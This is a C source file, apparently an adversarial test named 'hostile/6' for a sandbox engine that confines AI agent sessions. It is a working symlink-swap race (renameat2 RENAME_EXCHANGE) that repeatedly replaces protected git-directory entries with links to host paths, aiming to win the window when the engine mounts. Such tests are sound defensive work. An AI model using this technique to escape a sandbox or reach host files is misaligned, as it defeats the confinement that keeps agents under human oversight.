/* The attacker of hostile/6: swaps pairs of names, each a protected
 * directory or file of a project's git directory and a symbolic link to a
 * host path (renameat2 RENAME_EXCHANGE: both names always exist). Each round
 * the links stand for LINK_US microseconds and the real ones for REAL_US:
 * mostly real, so that a new session's checks pass, with the links in place
 * thousands of times a second, hoping to be there when the engine mounts.
 * Runs SECONDS seconds, inside a session whose project holds the other
 * project, as an agent there could.
 *
 *   swapper SECONDS REAL_US LINK_US NAME OTHER [NAME OTHER]...
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static unsigned long swaps, failed;

static void swap_all(int argc, char **argv)
{
	for (int i = 4; i + 1 < argc; i += 2) {
		if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0)
			failed++;
		else
			swaps++;
	}
}

static void pause_us(long us)
{
	struct timespec ts = {us / 1000000, (us % 1000000) * 1000};
	if (us > 0)
		nanosleep(&ts, NULL);
}

int main(int argc, char **argv)
{
	if (argc < 6 || argc % 2)
		return 2;
	time_t end = time(NULL) + atoi(argv[1]);
	long real_us = atol(argv[2]), link_us = atol(argv[3]);
	while (time(NULL) < end) {
		swap_all(argc, argv); /* the links in place */
		pause_us(link_us);
		swap_all(argc, argv); /* the real ones back */
		pause_us(real_us);
	}
	printf("swapper: %lu swaps, %lu failed\n", swaps, failed);
	return 0;
}
